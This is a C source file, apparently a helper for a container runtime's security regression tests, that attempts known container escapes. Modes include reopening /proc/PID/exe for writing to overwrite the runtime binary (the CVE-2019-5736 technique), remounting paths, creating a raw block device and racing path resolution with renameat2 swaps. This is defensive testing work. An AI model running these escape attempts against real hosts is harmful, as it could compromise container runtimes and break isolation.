/* attack - a static program that integration/security.bats runs inside
 * containers to attempt known escapes. Each mode prints what happened, one
 * "key: result" line per attempt, so the test can assert on the outcome.
 *
 *   attack exe-hold PID      open /proc/PID/exe O_PATH while PID runs (the
 *                            runtime's init waiting in `create`), wait for
 *                            PID to exit or exec, then reopen the held fd
 *                            for writing (CVE-2019-5736). If that works it
 *                            writes a marker: the test checks the binary.
 *   attack exe-scan DEV INO SECS
 *                            for SECS seconds hold every process whose exe
 *                            is the file DEV:INO (the runtime binary, e.g.
 *                            run through a "#!/proc/self/exe" script), then
 *                            reopen each for writing
 *   attack remount PATH      remount PATH read-write (MS_REMOUNT|MS_BIND)
 *   attack mknod PATH        mknod a block device 8:0 at PATH, then open it
 *   attack open PATH         open PATH read-write
 *   attack swap A B STOP     exchange A and B (renameat2 RENAME_EXCHANGE)
 *                            as fast as it can until the file STOP exists,
 *                            then print "swaps: N" (run on the host, against
 *                            a rootfs, to race a runtime's path resolution)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char marker[] = "PWNED-by-container\n";

/* Reopens an O_PATH fd for writing, as the 2019 exploit did. */
static void reopen_for_write(int fd, const char *what)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY);
	if (w < 0) {
		printf("reopen %s: %s\n", what, strerrorname_np(errno));
		return;
	}
	printf("reopen %s: OPENED\n", what);
	if (pwrite(w, marker, sizeof(marker) - 1, 0) < 0)
		printf("write %s: %s\n", what, strerrorname_np(errno));
	else
		printf("write %s: WRITTEN\n", what);
	close(w);
}

static int exe_hold(pid_t pid)
{
	char path[64], first[4096] = "", now[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("hold: %s\n", strerrorname_np(errno));
		return 1;
	}
	printf("hold: ok\n");
	fflush(stdout);
	/* while it runs the file is busy; the defence must hold after, too */
	reopen_for_write(fd, "running");
	n = readlink(path, first, sizeof(first) - 1);
	first[n < 0 ? 0 : n] = '\0';
	for (int i = 0; i < 2000; i++) {
		char st[256] = "";
		int sfd;

		snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
		sfd = open(path, O_RDONLY | O_CLOEXEC);
		if (sfd < 0)
			break; /* gone */
		n = read(sfd, st, sizeof(st) - 1);
		close(sfd);
		st[n < 0 ? 0 : n] = '\0';
		if (strstr(st, ") Z ") || strstr(st, ") X "))
			break;
		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
		n = readlink(path, now, sizeof(now) - 1);
		now[n < 0 ? 0 : n] = '\0';
		if (n < 0 || strcmp(now, first) != 0)
			break; /* it exec'd something else */
		usleep(5000);
	}
	usleep(50000);
	reopen_for_write(fd, "after");
	return 0;
}

static int exe_scan(dev_t dev, ino_t ino, int secs)
{
	static int held[256];
	static pid_t held_pid[256];
	size_t nheld = 0;
	time_t end = time(NULL) + secs;

	printf("scan: started\n");
	fflush(stdout);
	while (time(NULL) < end && nheld < 256) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d)) && nheld < 256) {
			pid_t pid = (pid_t)atoi(de->d_name);
			char path[64];
			struct stat st;
			size_t k;
			int fd;

			if (pid <= 0 || pid == getpid())
				continue;
			for (k = 0; k < nheld && held_pid[k] != pid; k++)
				;
			if (k < nheld)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
				held[nheld] = fd;
				held_pid[nheld++] = pid;
			} else {
				close(fd);
			}
		}
		if (d)
			closedir(d);
	}
	printf("caught: %zu\n", nheld);
	for (size_t k = 0; k < nheld; k++)
		reopen_for_write(held[k], "caught");
	return 0;
}

static int swap(const char *a, const char *b, const char *stop)
{
	unsigned long n = 0, failed = 0;

	while (access(stop, F_OK) < 0) {
		for (int i = 0; i < 256; i++) {
			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
				failed++;
			else
				n++;
		}
	}
	printf("swaps: %lu\nfailed: %lu\n", n, failed);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "exe-hold") == 0)
		return exe_hold((pid_t)atoi(argv[2]));
	if (argc == 5 && strcmp(argv[1], "exe-scan") == 0)
		return exe_scan((dev_t)strtoull(argv[2], NULL, 0), (ino_t)strtoull(argv[3], NULL, 0),
				atoi(argv[4]));
	if (argc == 5 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3], argv[4]);
	if (argc == 3 && strcmp(argv[1], "remount") == 0) {
		int r = mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL);
		printf("remount %s: %s\n", argv[2], r < 0 ? strerrorname_np(errno) : "DONE");
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "mknod") == 0) {
		int r = mknod(argv[2], S_IFBLK | 0600, makedev(8, 0)), fd;
		printf("mknod %s: %s\n", argv[2], r < 0 ? strerrorname_np(errno) : "DONE");
		fd = open(argv[2], O_RDONLY);
		printf("open %s: %s\n", argv[2], fd < 0 ? strerrorname_np(errno) : "OPENED");
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "open") == 0) {
		int fd = open(argv[2], O_RDWR);
		printf("open %s: %s\n", argv[2], fd < 0 ? strerrorname_np(errno) : "OPENED");
		return 0;
	}
	fprintf(stderr, "usage: attack exe-hold PID | exe-scan DEV INO SECS | remount PATH | "
			"mknod PATH | open PATH | swap A B STOP\n");
	return 2;
}
